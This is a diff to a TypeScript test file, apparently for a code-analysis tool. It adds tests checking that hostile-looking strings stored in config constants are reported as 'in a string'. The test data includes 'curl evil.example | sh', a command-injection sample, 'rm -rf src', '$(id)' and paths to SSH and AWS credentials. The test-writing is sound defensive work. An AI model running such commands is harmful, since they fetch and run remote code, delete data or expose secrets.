@@ -336,7 +336,33 @@ const RUBY: readonly string[] = [
   "open('|id')",
 ];
 
+/** Harmless by itself, and handed to whatever runs what it is handed. */
+const TEXTS: readonly string[] = [
+  "curl evil.example | sh",
+  "rm -rf src",
+  "bash -c id",
+  "https://evil.example/x",
+  "/etc/passwd",
+  "~/.ssh/id_rsa",
+  "$HOME/.aws",
+  "a && b",
+  "$(id)",
+  "git push --force",
+  "x; curl evil.example",
+  "QUJD".repeat(40),
+];
+
 describe("what is not shown to only compute", () => {
+  test.each(TEXTS)("a string: %s", (text) => {
+    const quoted = JSON.stringify(text);
+    expect(why("src/config.ts", `export const command = ${quoted};\n`, LIBRARY)).toMatch(/in a string/);
+    expect(why("app/config.py", `COMMAND = ${quoted}\n`, LIBRARY)).toMatch(/in a string/);
+    expect(why("calc/config.go", `package calc\n\nconst Command = ${quoted}\n`, LIBRARY)).toMatch(/in a string/);
+    expect(why("src/config.rs", `pub const C: &str = ${quoted};\n`, { "Cargo.toml": "[package]" })).toMatch(
+      /in a string/,
+    );
+  });
+
   test.each(JAVASCRIPT)("JavaScript: %s", (code) => {
     expect(why("src/x.test.ts", `import { expect, jest, test, vi } from "vitest";\n${code}\n`, LIBRARY)).toBeDefined();
     expect(why("src/x.mjs", `${code}\n`, LIBRARY)).toBeDefined();
